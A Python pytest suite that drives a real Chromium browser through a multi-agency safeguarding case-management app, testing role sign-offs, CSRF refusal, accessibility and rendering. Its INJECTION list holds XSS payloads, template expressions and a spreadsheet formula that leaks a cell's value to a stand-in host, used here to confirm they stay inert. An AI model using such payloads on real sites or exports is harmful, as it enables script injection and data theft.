"""The partnership's work in a real browser: Debian's Chromium, driven by Playwright, against `cspr serve --db`
started as a subprocess on a random loopback port, with JavaScript off (the forms need none).

The script: an LSBU officer opens a case and records it up to the partners' decision; the ICB, children's
social care and the constabulary each sign in and sign off; the decision is recorded; an overdue deadline
shows red on the caseload. A constabulary user trying to sign off as the ICB gets 403 and the database is
unchanged; a form posted without its CSRF token is refused; the injection corpus stays inert. Every page is
checked by axe-core at WCAG 2.2 AA and saved as a screenshot under the test run's output.
"""

from __future__ import annotations

import datetime as dt
import re
from typing import Any

import pytest

from .conftest import dump
from .helpers.browser import CHROMIUM_FLAGS, adopt_orphans, axe_violations, chromium, output_dir, playwright, reap_chromium
from .helpers.web import PASSWORD, ServeProcess, add_users

TODAY = dt.date.today()
REF = f"LSBU-{TODAY.year}-777"
LATE = f"LSBU-{TODAY.year}-778"
DESKTOP = {"width": 1280, "height": 900}
# What the trust issue's attacker typed into every text a user can give: markup that would run, a spreadsheet
# formula, a template expression; shown back as text, it must do nothing.
INJECTION = ["<script>document.title='pwned-1'</script>", "\"'><img src=x onerror=\"document.title='pwned-2'\">",
             "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")", "{{ 7*7 }} ${7*7}",
             "<a href=\"javascript:document.title='pwned-3'\">click</a>", "<svg onload=\"document.title='pwned-4'\">"]


def ago(days: int) -> str:
    return (TODAY - dt.timedelta(days=days)).isoformat()


@pytest.fixture(scope="module")
def chrome():
    executable, sync_playwright = chromium(), playwright()
    adopt_orphans()
    with sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=executable, headless=True, args=CHROMIUM_FLAGS)
        yield browser
        browser.close()
    assert reap_chromium() == []  # every Chromium process has ended and been reaped: none left, defunct or running


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    db = tmp_path_factory.mktemp("browser") / "cases.db"
    add_users(str(db))
    served = ServeProcess("--db", str(db))
    yield served.url.rstrip("/"), db
    served.stop()


@pytest.fixture(scope="module")
def shots():
    return output_dir("screenshots/partnership")


class Person:
    """One user in their own browser context (their own cookies), checking and saving every page they see.

    axe-core runs in the page from outside it (Playwright), so it needs JavaScript on in the context; the
    pages themselves carry no script at all (their policy allows none), and one partner works with JavaScript
    off to show the forms need none."""

    def __init__(self, chrome: Any, base: str, name: str, shots: Any, *, javascript: bool = True):
        self.context = chrome.new_context(viewport=DESKTOP, java_script_enabled=javascript)
        self.context.set_default_timeout(10_000)
        self.page = self.context.new_page()
        self.base, self.name, self.shots, self.javascript = base, name, shots, javascript
        self.problems: dict[str, Any] = {}
        self.go("/sign-in", "sign-in")
        self.page.fill("#name", name)
        self.page.fill("#password", PASSWORD)
        self.submit("button:has-text('Sign in')", "signed-in")
        assert f"Signed in as {name}" in self.page.inner_text("header")

    def go(self, path: str, shot: str) -> None:
        response = self.page.goto(self.base + path)
        assert response is not None and response.status == 200, (path, response and response.status)
        self.check(shot)

    def submit(self, selector: str, shot: str) -> None:
        with self.page.expect_navigation():
            self.page.click(selector)
        self.check(shot)

    def check(self, shot: str) -> None:
        """axe-core at WCAG 2.2 AA, and a screenshot under the test run's output."""
        if self.javascript:
            violations = axe_violations(self.page)
            if violations:
                self.problems[shot] = violations
        self.page.screenshot(path=str(self.shots / f"{self.name}-{shot}.png"), full_page=True)

    def close(self) -> None:
        self.context.close()
        assert self.problems == {}, self.problems


def test_the_partnership_reaches_a_decision_in_the_browser(chrome, site, shots):
    base, db = site
    lsbu = Person(chrome, base, "lsbu.officer", shots)
    # an older case whose notification deadline has passed, for the caseload
    lsbu.go("/cases/new", "open-form-late")
    lsbu.page.fill("#ref-1", LATE)
    lsbu.page.fill("#opened-1", ago(30))
    lsbu.page.select_option("#open-1-role", "lsbu")
    lsbu.submit("button:has-text('Open the case')", "opened-late")

    # the officer opens the case and records it up to the partners' decision
    lsbu.go("/cases/new", "open-form")
    lsbu.page.fill("#ref-1", REF)
    lsbu.page.fill("#opened-1", ago(4))
    lsbu.page.select_option("#open-1-role", "lsbu")
    lsbu.submit("button:has-text('Open the case')", "opened")
    assert lsbu.page.url.endswith(f"/cases/{REF}") and f"Case {REF} opened" in lsbu.page.inner_text("main")
    lsbu.submit("button:has-text('Sign off as Agency safeguarding lead')", "lead-signed-off")
    step = "section[aria-labelledby='step-referral_submitted']"
    lsbu.page.check(f"{step} input[name='fact.harm'][value='seriously_harmed']")
    lsbu.page.check(f"{step} input[name='fact.abuse_or_neglect'][value='known']")
    lsbu.page.fill(f"{step} input[name='fact.referring_agency']", "School")
    lsbu.submit(f"{step} button[type='submit']", "referral-recorded")
    step = "section[aria-labelledby='step-case_consideration_arranged']"
    lsbu.submit(f"{step} button[type='submit']", "consideration-arranged")
    assert "Case consideration meeting with the three partners" in lsbu.page.inner_text("main")
    # what the notification question needs besides: not a care leaver, and the incident in the area
    lsbu.page.click("summary:has-text('Record or correct facts')")
    facts = "form[action$='/facts']"
    lsbu.page.check(f"{facts} input[name='fact.care_leaver'][value='no']")
    lsbu.page.check(f"{facts} input[name='fact.incident_place'][value='in_area']")
    lsbu.submit(f"{facts} button[type='submit']", "facts-recorded")

    # the decision cannot be recorded before the partners agree: the engine's reasons, nothing written
    before = dump(db)
    lsbu.submit("section[aria-labelledby='step-criteria_met'] button[type='submit']", "decision-refused")
    assert "Nothing was recorded" in lsbu.page.inner_text(".error-summary")
    assert "needs sign-off from Lancashire Constabulary" in lsbu.page.inner_text(".error-summary")
    assert dump(db) == before

    # a constabulary officer cannot sign off as the ICB (403), nor post a form without its token; nothing changes
    police = Person(chrome, base, "police.officer", shots)
    police.go(f"/cases/{REF}", "case")
    assert police.page.locator("button:has-text('Sign off as Lancashire and South Cumbria')").count() == 0
    token = police.page.get_attribute("form[action$='/signoffs'] input[name='csrf_token']", "value")
    before = dump(db)
    forged = police.context.request.post(f"{base}/cases/{REF}/signoffs", form={"csrf_token": token, "role": "icb"},
                                         max_redirects=0)
    assert forged.status == 403 and "you do not hold the role" in forged.text()
    tokenless = police.context.request.post(f"{base}/cases/{REF}/signoffs", form={"role": "constabulary"},
                                            max_redirects=0)
    assert tokenless.status == 403 and "did not come from this service" in tokenless.text()
    assert dump(db) == before

    # the three partners each sign in and sign off
    police.submit("button:has-text('Sign off as Lancashire Constabulary')", "signed-off")
    police.close()
    for name in ("icb.officer", "csc.officer"):
        partner = Person(chrome, base, name, shots, javascript=name == "icb.officer")
        partner.go(f"/cases/{REF}", "case")
        partner.submit("form[action$='/signoffs'] button", "signed-off")
        assert "Signed off as" in partner.page.inner_text(".notification-banner")
        partner.close()

    # the decision is recorded, by the officer, as the LSBU
    lsbu.go(f"/cases/{REF}", "partners-agreed")
    lsbu.submit("section[aria-labelledby='step-criteria_met'] button[type='submit']", "decision-recorded")
    main = lsbu.page.inner_text("main")
    assert "Recorded: Partners agree a serious incident notification is required" in main
    history = lsbu.page.inner_text("#history ~ .table-wrapper")
    for who in ("lsbu.officer", "icb.officer", "csc.officer", "police.officer"):
        assert who in history

    # the overdue deadline shows red on the caseload, first
    lsbu.go("/cases", "caseload")
    first = lsbu.page.locator("tbody tr").first
    assert LATE in first.inner_text() and "overdue" in first.inner_text()
    tag = first.locator(".tag--red")
    assert tag.evaluate("el => getComputedStyle(el).backgroundColor") == "rgb(244, 205, 198)"  # red
    lsbu.go("/reports", "reports")
    lsbu.close()


def test_every_page_an_auditor_and_an_admin_see(chrome, site, shots):
    base, _ = site
    auditor = Person(chrome, base, "auditor", shots)
    for path, shot in (("/cases", "caseload"), (f"/cases/{REF}", "case"), ("/reports", "reports"),
                       ("/cases?due=week", "due-this-week")):
        auditor.go(path, shot)
    auditor.go(f"/cases/{REF}", "case-read-only")
    assert auditor.page.locator("main form").count() == 0  # an auditor is offered nothing to record
    auditor.close()
    admin = Person(chrome, base, "admin", shots)
    admin.go("/users", "users")
    admin.page.fill("#new-name", "ofsted.inspector")
    admin.page.fill("#new-password", "a long enough password")
    admin.page.check("input[name='role'][value='auditor']")
    admin.submit("button:has-text('Add user')", "user-added")
    assert "Added user ofsted.inspector" in admin.page.inner_text(".notification-banner")
    admin.close()


def test_the_injection_corpus_is_inert_on_the_case_page(chrome, site, shots):
    base, db = site
    officer = Person(chrome, base, "lsbu.officer", shots)
    for text in INJECTION:
        officer.go(f"/cases/{LATE}", "before-note")
        officer.page.fill("#note-note", text)
        officer.submit("button:has-text('Add note')", "note-added")
    officer.close()
    context = chrome.new_context(viewport=DESKTOP)
    dialogs: list[str] = []
    try:
        page = context.new_page()
        page.on("dialog", lambda d: dialogs.append(d.message))
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        page.goto(base + "/sign-in")
        page.fill("#name", "auditor")
        page.fill("#password", PASSWORD)
        with page.expect_navigation():
            page.click("button:has-text('Sign in')")
        for path in (f"/cases/{LATE}", f"/api/cases/{LATE}"):
            page.goto(base + path)
            page.wait_for_timeout(200)
            assert not re.match(r"pwned-\d+$", page.title()) and errors == []
            assert page.evaluate("document.querySelectorAll('script, iframe, object, embed, svg').length") == 0
            handlers = page.evaluate("""[...document.querySelectorAll('*')].flatMap(
                el => [...el.attributes].filter(a => a.name.startsWith('on')).map(a => el.tagName + ' ' + a.name))""")
            assert handlers == []
        page.goto(base + f"/cases/{LATE}")
        shown = page.inner_text("#history ~ .table-wrapper")
        for text in INJECTION:
            assert text in shown  # shown as the text it is
        page.screenshot(path=str(shots / "injection-inert.png"), full_page=True)
    finally:
        context.close()
    assert dialogs == []
